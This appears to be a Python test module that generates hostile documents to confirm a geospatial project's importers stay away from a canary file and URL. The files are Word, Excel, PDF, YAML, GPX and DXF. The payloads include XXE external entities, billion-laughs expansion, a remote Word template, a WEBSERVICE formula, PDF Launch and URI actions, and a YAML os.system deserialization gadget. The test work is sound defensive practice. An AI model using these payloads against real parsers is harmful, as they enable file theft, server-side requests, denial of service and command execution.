"""Documents, sheets, lists and drawings that try to reach the canary: what no map file does."""

import datetime as dt
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
from openpyxl import load_workbook

from geo.export.update_form import COLUMNS, HEAD_ROW, update_form
from geo.osm.cache import to_parquet
from geo.registry import load_registry
from tests.doors.bombs import pack_of
from tests.doors.canary import Canary, areas, with_grids

_ENTITIES = '<!DOCTYPE x [<!ENTITY e SYSTEM "{}"><!ENTITY % p SYSTEM "{}/dtd"> %p;]>'
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))


def papers(canary: Canary) -> dict[str, Callable[[Path], object]]:
    """Name of a file → what writes it; each would read, call or start if it could."""
    grids = with_grids(canary.file)["bound"]
    head = _ENTITIES.format(canary.file.as_uri(), canary.url)
    laughs = f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>'
    return {
        "entity.docx": lambda path: _word(path, head, "&e;"),
        "laughs.docx": lambda path: _word(path, laughs, "&l11;"),
        "template.docx": lambda path: _word_with_template(path, f"{canary.url}/t.dotm"),
        "entity.xlsx": lambda path: _sheet(path, head, "&e;"),
        "laughs.xlsx": lambda path: _sheet(path, laughs, "&l11;"),
        "formula.xlsx": lambda path: _asking_sheet(path, canary),
        "acts.pdf": lambda path: path.write_bytes(_acting_pdf(canary)),
        "python.yaml": lambda path: path.write_text(
            f'projects: !!python/object/apply:os.system ["touch {canary.written}"]\n', "utf-8"
        ),
        "include.yaml": lambda path: path.write_text(f"projects: !include {canary.file}\n"),
        "entity.gpx": lambda path: path.write_text(_track(head, "&e;")),
        "laughs.gpx": lambda path: path.write_text(_track(laughs, "&l11;")),
        "reference.dxf": lambda path: path.write_text(_drawing(canary.file)),
        "vrt.dxf": lambda path: path.write_text(
            '<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>'
            f"CSV:{canary.file}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
        ),
        "grid.zip": lambda path: pack_of(
            path, to_parquet(areas().set_crs(grids, allow_override=True))
        ),
    }


def _word(path: Path, head: str, entity: str) -> None:
    memory = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("QL.37 HERE")
    document.save(memory)
    _rewritten(memory, path, "word/document.xml", head, entity)


def _word_with_template(path: Path, url: str) -> None:
    document = docx.Document()
    document.add_paragraph("QL.37")
    document.part.relate_to(
        url,
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
        is_external=True,
    )
    document.save(str(path))


def _sheet(path: Path, head: str, entity: str) -> None:
    _rewritten(_form("HERE"), path, "xl/sharedStrings.xml", head, entity)


def _asking_sheet(path: Path, canary: Canary) -> None:
    """A cell that asks a server, and another workbook."""
    path.write_bytes(
        _form(f"=WEBSERVICE(\"{canary.url}/x\")&'file://{canary.file}'#$Sheet1.A1").getvalue()
    )


def _form(note: str) -> io.BytesIO:
    """A province's update form with a note in its first row."""
    content = update_form("2008:24", load_registry(), [], as_of=dt.date(2026, 5, 5))
    book = load_workbook(io.BytesIO(content))
    at = [column.name for column in COLUMNS].index("note") + 1
    book.worksheets[0].cell(HEAD_ROW + 2, at, note)
    memory = io.BytesIO()
    book.save(memory)
    return memory


def _rewritten(memory: io.BytesIO, path: Path, part: str, head: str, entity: str) -> None:
    """The archive with a document type before a part's root, and an entity in its text."""
    with zipfile.ZipFile(memory) as old, zipfile.ZipFile(path, "w") as new:
        for name in old.namelist():
            content = old.read(name).decode() if name == part else old.read(name)
            if isinstance(content, str):
                declared, _, rest = content.partition("?>")
                whole = rest or declared
                assert "HERE" in whole
                content = f'<?xml version="1.0"?>{head}{whole.replace("HERE", entity)}'
            new.writestr(name, content)


def _acting_pdf(canary: Canary) -> bytes:
    """Actions on opening, and a page whose content is said to lie in another file."""
    shown = b"BT /F1 12 Tf 50 700 Td (Cau Ben Thu dai 450 m, QL.37, thoi han 2027) Tj ET"
    parts = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
        "/AA << /O 7 0 R >> /Resources << /Font << /F1 9 0 R >> >> >>",
        f"<< /Length {len(shown)} /F ({canary.file}) >>\nstream\n{shown.decode()}\nendstream",
        f"<< /Type /Filespec /F ({canary.file}) >>",
        f"<< /S /URI /URI ({canary.url}/x) /Next 8 0 R >>",
        f"<< /S /Launch /F (touch {canary.written}) >>",
        f"<< /S /GoToR /F ({canary.file}) /D [0 /Fit] >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    return pdf_of([part.encode() for part in parts])


def pdf_of(parts: list[bytes]) -> bytes:
    """A PDF of these objects, the first of which is its root."""
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, part in enumerate(parts, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    start = len(out)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(parts) + 1, rows)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(parts) + 1,
        start,
    )
    return bytes(out)


def _track(head: str, entity: str) -> str:
    points = "".join(f'<trkpt lon="106.{n}" lat="21.{n}"/>' for n in range(1, 5))
    return (
        f'<?xml version="1.0"?>{head}<gpx version="1.1" creator="x"><trk><name>{entity}</name>'
        f"<trkseg>{points}</trkseg></trk></gpx>"
    )


def _drawing(file: Path) -> str:
    """A line, and a block that is another file."""
    rows = [
        *(
            (0, "SECTION"),
            (2, "HEADER"),
            (0, "ENDSEC"),
            (0, "SECTION"),
            (2, "BLOCKS"),
            (0, "BLOCK"),
            (8, "0"),
            (2, "other"),
            (70, 4),
        ),
        *((10, 0), (20, 0), (30, 0), (3, "other"), (1, file), (0, "ENDBLK"), (8, "0")),
        *((0, "ENDSEC"), (0, "SECTION"), (2, "ENTITIES"), (0, "INSERT"), (8, "0"), (2, "other")),
        *((10, 0), (20, 0), (30, 0), (0, "LINE"), (8, "0"), (10, 106), (20, 21), (30, 0)),
        *((11, 107), (21, 22), (31, 0), (0, "ENDSEC"), (0, "EOF")),
    ]
    return "".join(f"{code}\n{value}\n" for code, value in rows)
